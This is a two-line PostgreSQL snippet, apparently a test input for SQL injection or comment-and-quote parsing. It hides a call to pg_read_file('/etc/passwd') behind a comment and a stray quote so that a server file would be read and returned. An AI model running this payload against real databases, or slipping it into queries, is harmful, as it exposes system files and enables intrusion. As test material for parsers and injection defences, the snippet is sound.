COMMENT ON EXTENSION plpgsql IS 'x' -- '
 || (SELECT pg_read_file('/etc/passwd'));
